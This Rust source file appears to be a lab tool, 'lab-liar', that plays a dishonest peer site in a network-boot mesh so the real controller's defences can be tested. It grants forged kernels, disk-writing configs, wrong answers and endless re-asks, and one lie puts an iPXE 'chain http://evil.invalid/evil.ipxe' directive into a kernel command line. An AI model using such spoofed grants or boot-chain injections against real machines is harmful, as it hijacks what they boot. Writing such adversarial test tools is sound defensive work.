//! `lab-liar STATE SITE LISTEN THEIRS THEIR-CA AT LIE=MAC…`: a site that lies. It holds the keys of the controller whose state folder is
//! STATE, listens at LISTEN, dials the controller of the site THEIRS at AT, and says that it has something for each MAC; asked what, it
//! tells that machine's lie. It says `named N machines` once they were taken note of, and each question that comes, on a line of its own.

use std::{env, fs, net::SocketAddr, sync::Arc, time::Duration};

use anyhow::{Context, Result, bail, ensure};
use bytes::Bytes;
use enforcer::ca::Ca;
use mesh_net::{
    Answer, Body, Csr, EnrolAnswer, EnrolAsk, Flow, LinkEnd, LinkHandle, MeshAuthority, MeshNote,
    MeshServer, PeerCert, PeerLink, PeerResponder, ServerConfig, keys::certificate_der,
    tls::system_clock,
};
use mesh_proto::message::{
    Refusal, RefusalCode,
    link::{ControllerReply, FromAgent, Hello, Welcome},
    peer::{ClosedBy, Grant, GrantedFile, PeerAsk, PeerReply, Question},
};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

/// Time for the other site to answer.
const SOON: Duration = Duration::from_secs(10);
/// Bytes of the kernel that it grants: more than a controller holds back, so that the wrong file has begun to reach the machine.
const KERNEL: usize = 300_000;
/// How often it asks back.
const ROUNDS: u32 = 10;

/// What it does with a machine that it is asked about.
#[derive(Debug, Clone, Copy)]
enum Lie {
    /// Commands for the firmware in the kernel's command line.
    Script,
    /// Other bytes than it granted.
    Bytes,
    /// A config that writes to the disk of a machine that the other site does not know.
    Disk,
    /// An answer to another question.
    Answer,
    /// It asks the other site the same, again and again, as if nobody had been asked before.
    Loop,
}

impl Lie {
    fn named(word: &str) -> Option<Self> {
        Some(match word {
            "script" => Self::Script,
            "bytes" => Self::Bytes,
            "disk" => Self::Disk,
            "answer" => Self::Answer,
            "loop" => Self::Loop,
            _ => return None,
        })
    }

    fn grant(self) -> Grant {
        let cmdline = match self {
            Self::Script => "quiet\nchain http://evil.invalid/evil.ipxe",
            Self::Bytes | Self::Disk | Self::Answer | Self::Loop => "quiet",
        };
        Grant {
            nonce: "0123456789abcdef0123456789abcdef".to_owned(),
            config: "live".to_owned(),
            standing: false,
            writes_disk: matches!(self, Self::Disk),
            closed_by: ClosedBy::Fetched,
            files: vec![GrantedFile {
                name: "vmlinuz".to_owned(),
                // Of no file that it has.
                sha256: "ab".repeat(32),
                size: KERNEL as u64,
            }],
            cmdline: cmdline.to_owned(),
            answers: Vec::new(),
            lives_s: 3600,
        }
    }
}

/// The site, as its server's authority.
struct Liar(Vec<(String, Lie)>);

impl Liar {
    fn lie(&self, question: &Question) -> Option<Lie> {
        let known = self.0.iter().find(|(mac, _)| *mac == question.mac);
        known.map(|(_, lie)| *lie)
    }

    async fn answer(&self, link: &PeerLink, ask: PeerAsk, to: PeerResponder) {
        let (question, claims) = match &ask {
            PeerAsk::Peek(question) => (question, false),
            PeerAsk::Claim(question) => (question, true),
            PeerAsk::File { from, .. } => return send(*from, to).await,
            _ => return to.reply(&PeerReply::Noted).await,
        };
        println!("asked about {}, claims: {claims}", question.mac);
        let reply = match (self.lie(question), claims) {
            (None, _) => nothing("it was not named"),
            (Some(Lie::Answer), _) => PeerReply::Noted,
            (Some(Lie::Loop), _) => asks_back(link, question).await,
            (Some(Lie::Script | Lie::Bytes | Lie::Disk), false) => PeerReply::Offer {
                config: "live".to_owned(),
                writes_disk: false,
            },
            (Some(lie @ (Lie::Script | Lie::Bytes | Lie::Disk)), true) => {
                PeerReply::Grant(Box::new(lie.grant()))
            }
        };
        to.reply(&reply).await;
    }
}

fn nothing(why: &str) -> PeerReply {
    let why = why.to_owned();
    PeerReply::Nothing { why }
}

/// The question goes back where it came from, as a new one that may go as far as it likes.
async fn asks_back(link: &PeerLink, question: &Question) -> PeerReply {
    let mut heard = Vec::new();
    for _ in 0..ROUNDS {
        let again = Question {
            visited: Vec::new(),
            hops: u8::MAX,
            ..question.clone()
        };
        match link.ask(&PeerAsk::Peek(again), SOON).await {
            Ok(PeerReply::Nothing { why }) => heard.push(why),
            other => println!("asked back: {other:?}"),
        }
    }
    println!(
        "asked back {} times, and heard: {}",
        heard.len(),
        heard.join("; ")
    );
    nothing("it asked back")
}

/// As many bytes as were granted, and others.
async fn send(from: u64, to: PeerResponder) {
    println!("asked for the kernel from byte {from}");
    let rest = KERNEL.saturating_sub(usize::try_from(from).unwrap_or(KERNEL));
    let (pieces, bytes) = mpsc::channel(1);
    let filled = async move {
        let _taken = pieces.send(Bytes::from(vec![0x66; rest])).await;
    };
    let len = Some(rest as u64);
    tokio::join!(filled, to.follow(rest as u64, Flow { len, bytes }));
}

fn never() -> Refusal {
    Refusal::new(RefusalCode::NotAllowed, "no")
}

impl MeshAuthority for Liar {
    fn admit(&self, _: &PeerCert) -> Result<(), Refusal> {
        Err(never())
    }
    async fn enrol(&self, _: EnrolAsk) -> EnrolAnswer {
        EnrolAnswer::Refused(never())
    }
    async fn hello(&self, _: &LinkHandle, _: Hello) -> Result<Welcome, Refusal> {
        Err(never())
    }
    async fn request(&self, _: &LinkHandle, _: FromAgent, _: Body) -> Answer {
        ControllerReply::Refused(never()).into()
    }
    async fn renew(&self, _: &PeerCert, _: Csr, _: SocketAddr) -> Result<String, Refusal> {
        Err(never())
    }
    fn closed(&self, _: &LinkHandle, _: LinkEnd) {}
    fn note(&self, _: MeshNote) {}

    async fn peer(&self, link: PeerLink) {
        attend(self, &link).await;
    }
}

/// Answers what comes over a link until it ends. One after the other: it is asked little.
async fn attend(liar: &Liar, link: &PeerLink) {
    while let Ok(incoming) = link.accept().await {
        if let Ok((ask, to)) = incoming.read().await {
            liar.answer(link, ask, to).await;
        }
    }
}

fn lies(words: &[String]) -> Result<Vec<(String, Lie)>> {
    let lie = |word: &String| {
        let (lie, mac) = word.split_once('=')?;
        Some((mac.to_owned(), Lie::named(lie)?))
    };
    let all: Option<Vec<_>> = words.iter().map(lie).collect();
    all.context("each lie is LIE=MAC; see the first lines of lab-liar.rs")
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let args: Vec<String> = env::args().skip(1).collect();
    let [state, site, listen, theirs, their_ca, at, words @ ..] = args.as_slice() else {
        bail!("usage: see the first lines of lab-liar.rs");
    };
    let liar = Arc::new(Liar(lies(words)?));
    let clock = system_clock();
    let identity = Ca::open(state.as_ref(), site)?.identity(clock())?;
    let believed = certificate_der(&fs::read_to_string(their_ca)?)?;
    let mut config = ServerConfig::new(listen.parse()?, identity, clock);
    let ca = believed.clone();
    config.peers = Arc::new(move |_| Some(ca.clone()));
    let server = MeshServer::bind(config)?;
    let handle = server.handle();
    let serving = tokio::spawn(server.run(Arc::clone(&liar), CancellationToken::new()));
    let link = handle.dial_peer(theirs, believed, at.parse()?).await?;
    let named = async {
        let macs: Vec<String> = liar.0.iter().map(|(mac, _)| mac.clone()).collect();
        let count = macs.len();
        let told = link.ask(&PeerAsk::Macs { macs }, SOON).await?;
        ensure!(told == PeerReply::Noted, "{told:?}");
        println!("named {count} machines");
        anyhow::Ok(())
    };
    let (named, ()) = tokio::join!(named, attend(&liar, &link));
    named?;
    serving.await?;
    Ok(())
}
